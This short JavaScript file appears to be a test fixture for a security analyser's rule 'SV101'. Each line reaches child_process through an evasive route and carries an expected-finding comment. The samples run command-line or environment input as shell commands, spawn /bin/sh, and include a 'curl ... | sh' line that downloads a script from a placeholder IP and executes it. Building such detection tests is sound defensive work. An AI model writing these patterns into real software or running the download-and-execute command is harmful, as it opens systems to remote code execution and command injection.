const r = require;
const { execSync: run } = r('node:child_process');
run(process.argv[2]);                                    // want "low SV101: .*chosen by user input"
const mod = require('module');
const req = mod.createRequire(__filename);
req('child_process').exec(`ls ${process.argv[3]}`);      // want "high SV101: .*splices user input"
module.constructor._load('child_process').exec(process.env.CMD); // want "SV101: .*built from variables"
process.binding('spawn_sync').spawn({ file: '/bin/sh' }); // want "SV101: .*spawn_sync"
const cpm = require('child_process');
cpm.execSync.call(null, 'curl -s http://198.51.100.2/p | sh');                   // want "SV101: .*pipes a download"
Reflect.apply(cpm.exec, null, [process.argv[4]]);                                // want "low SV101: .*chosen by user input"
